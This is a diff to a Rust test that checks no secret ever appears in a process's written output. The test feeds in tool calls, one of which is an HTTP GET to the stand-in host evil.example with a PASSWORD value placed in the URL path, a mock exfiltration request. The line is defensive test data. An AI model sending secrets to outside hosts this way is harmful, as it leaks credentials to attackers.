@@ -271,7 +271,7 @@ async fn nothing_that_the_process_ever_wrote_has_a_secret_in_it() {
         }
     }
     for (tool, arguments) in [
-        ("http", get("https://evil.example/echo")),
+        ("http", get(&format!("https://evil.example/{PASSWORD}"))),
         ("http-many", json!({ "url": format!("{}/silent", origins[0]), "count": 40 })),
         ("http-upload", json!({ "url": format!("{}/echo", origins[0]), "bytes": 20_000_000 })),
         ("http-raw", json!({ "scheme": "https", "authority": "a@b", "path": "//x" })),
